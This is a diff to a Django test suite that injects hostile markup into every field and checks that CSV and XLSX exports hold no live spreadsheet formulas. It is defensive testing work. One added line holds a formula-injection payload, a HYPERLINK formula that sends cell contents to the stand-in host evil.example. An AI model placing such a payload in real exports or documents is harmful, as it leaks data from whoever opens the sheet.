@@ -1,7 +1,10 @@
 """Text that should break something: into every parameter of every page, and into every field of every form."""
 
+import csv
+import io
 import os
 import re
+import zipfile
 from collections.abc import Iterator
 from html import unescape
 from pathlib import Path
@@ -126,26 +129,32 @@ def test_no_form_breaks(rows: TenantRows, turn: int) -> None:
 class Marked(TenantRows):
     """Rows with markup in every text that people or MazBot choose freely."""
 
+    TEXT = MARKUP
+
     def add(self, pk: int) -> None:
         super().add(pk)
         Center._base_manager.filter(pk=pk).update(
-            name=MARKUP, contact_name=MARKUP, notes=MARKUP, country_id=MARKUP[:16]
+            name=self.TEXT, contact_name=self.TEXT, notes=self.TEXT, country_id=self.TEXT[:16]
         )
-        Instance._base_manager.filter(pk=pk).update(label=MARKUP[:80], raw_status=MARKUP[:64])
+        Instance._base_manager.filter(pk=pk).update(label=self.TEXT[:80], raw_status=self.TEXT[:64])
 
     def _value(self, field: Any) -> Any:
         free = type(field) in (models.CharField, models.TextField) and not (field.choices or field.unique)
         if free and field.name not in ("currency", "job", "token_hash", "language"):
-            return MARKUP[: field.max_length or 200]
+            return self.TEXT[: field.max_length or 200]
         return super()._value(field)
 
     def _values(self, model: type[models.Model]) -> dict[str, Any]:
-        empty = {
-            f.name: self._value(f) for f in model._meta.concrete_fields if f.blank and f.empty_strings_allowed
-        }
-        return {name: text for name, text in empty.items() if text == MARKUP[: len(text)]} | super()._values(
-            model
-        )
+        fields = [f for f in model._meta.concrete_fields if f.blank and f.empty_strings_allowed]
+        empty = {field.name: self._value(field) for field in fields}
+        texts = {name: text for name, text in empty.items() if text and text == self.TEXT[: len(str(text))]}
+        return texts | super()._values(model)
+
+
+class Formulas(Marked):
+    """Rows whose texts are formulas to a spreadsheet, whichever character it splits lines at."""
+
+    TEXT = '=HYPERLINK("http://evil.example/"&A1,"x");=1+1\t@SUM(1)'
 
 
 @pytest.mark.django_db
@@ -163,3 +172,28 @@ def test_markup_that_is_stored_is_shown_as_text() -> None:
             assert not RAW.search(text), str(address)
             shown += MARKUP[:30] in unescape(text)
     assert shown > 30, "the markup is on too few pages to say anything"
+
+
+@pytest.mark.django_db
+def test_no_export_holds_a_formula() -> None:
+    rows = Formulas(ResellerFactory(), first_pk=MINE)
+    cells = 0
+    for client, address in reachable(rows):
+        if "fmt" not in address.takes:
+            continue
+        url = url_of(address, rows, MINE)
+        sheet = b"".join(client.get(url).streaming_content).decode("utf-8-sig")
+        for separator in ",;\t":
+            found = [cell for row in csv.reader(io.StringIO(sheet), delimiter=separator) for cell in row]
+            wrong = [
+                cell for cell in found if cell.lstrip().startswith(("=", "@")) or cell[:1] in ("\t", "\r")
+            ]
+            assert wrong == [], f"{address}: split at {separator!r}"
+        cells += sheet.count("HYPERLINK")
+        book = b"".join(client.get(url.replace("/csv/", "/xlsx/")).streaming_content)
+        with zipfile.ZipFile(io.BytesIO(book)) as archive:
+            inside = {
+                name: archive.read(name).decode() for name in archive.namelist() if name.endswith(".xml")
+            }
+        assert not any("<f>" in text or "<hyperlink" in text for text in inside.values()), str(address)
+    assert cells >= 5, "no export held the formula as text"
